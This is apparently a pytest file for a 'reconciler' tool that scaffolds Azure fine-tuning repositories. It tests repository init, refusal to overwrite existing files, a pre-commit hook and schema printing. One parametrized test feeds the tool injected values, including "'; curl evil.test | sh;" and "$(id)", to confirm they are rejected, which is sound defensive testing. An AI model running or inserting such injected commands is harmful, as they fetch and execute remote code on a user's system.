"""`init`: a repository that is valid and can be planned as it stands, and the hook that checks one."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import jsonschema
import pytest
import yaml
from command import Site
from workflow import ROOT

from reconciler import __version__
from reconciler.scaffold import WORKFLOWS

HOOKS = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())


def test_a_new_repository_is_valid_and_can_be_planned_on_the_emulator(alone: Site) -> None:
    ran = alone.run(
        "init", "models", "--account", "contoso", "--owner", "contoso-ml", "--code-owner", "@contoso/ml", code=0
    )
    folder = alone.folder / "models"
    assert ran.out.endswith("Next:\n  cd models\n  reconciler validate\n  reconciler --emulator plan\n")
    valid = alone.run("--chdir", "models", "validate", "--warnings-as-errors", code=0)
    assert valid.last == "Valid: 4 resources in 1 account."
    planned = alone.run("--chdir", "models", "--emulator", "plan", code=0)
    assert "Plan: 1 to train, 2 to create, 0 to update, 0 to delete." in planned.out
    schema = json.loads((folder / "reconciler.schema.json").read_text())
    manifests = sorted((folder / "manifests").glob("*.yaml"))
    assert len(manifests) == 2
    for path in manifests:
        text = path.read_text()
        assert text.startswith("# yaml-language-server: $schema=../reconciler.schema.json\n")
        for document in yaml.safe_load_all(text):
            jsonschema.validate(document, schema)
    assert "@contoso/ml" in (folder / ".github/CODEOWNERS").read_text()
    for name in WORKFLOWS:
        text = (folder / ".github/workflows" / name).read_text()
        assert f"'azure-finetune-reconciler=={__version__}'" in text
        assert "reconciler-contoso-" in text
    assert [path for path in folder.rglob("*") if path.is_file() and "@ACCOUNT@" in path.read_text()] == []


@pytest.mark.parametrize(
    "there", ["README.md", "manifests/own.yaml", ".github/workflows/plan.yml", "manifests", ".github/workflows"]
)
def test_nothing_is_written_over(alone: Site, there: str) -> None:
    alone.write(there, "mine")
    ran = alone.run("init", code=4)
    assert "Something is there already" in ran.err
    assert there in ran.err
    assert "Nothing was written" in ran.err
    assert [path for path in alone.folder.rglob("*") if path.is_file()] == [alone.folder / there]


@pytest.mark.parametrize(
    "arguments",
    [
        ("--account", "a b"),
        ("--owner", "x"),
        ("--code-owner", "me"),
        ("--tool", "x'; curl evil.test | sh; '"),
        ("--tool", "$(id)"),
    ],
)
def test_what_could_be_an_order_to_a_shell_is_bad_usage(alone: Site, arguments: tuple[str, str]) -> None:
    alone.run("init", *arguments, code=64)
    assert list(alone.folder.iterdir()) == []


def test_the_hook_checks_a_repository(alone: Site) -> None:
    (hook,) = HOOKS
    assert hook["pass_filenames"] is False
    command = shlex.split(hook["entry"])
    assert command[0] == "reconciler"
    alone.run("init", code=0)
    alone.run(*command[1:], code=0)
    alone.edit("manifests/first-model.yaml", "training_type", "trainingtype")
    ran = alone.run(*command[1:], code=1)
    assert "manifests/first-model.yaml:" in ran.err


def test_both_schemas_are_printed(alone: Site) -> None:
    for what, title in ((), "Manifest of reconciler"), (("plan",), "Plan of reconciler, format 1.5"):
        schema = json.loads(alone.run("schema", *what, code=0).out)
        assert schema["title"] == title
    alone.run("schema", "nothing", code=64)


def test_the_schema_in_the_documentation_is_the_one_that_is_printed() -> None:
    from reconciler.render.plan_schema import plan_schema

    written = json.loads((Path(ROOT) / "docs/plan.schema.json").read_text())
    assert written == plan_schema(), "run: reconciler schema plan > docs/plan.schema.json"
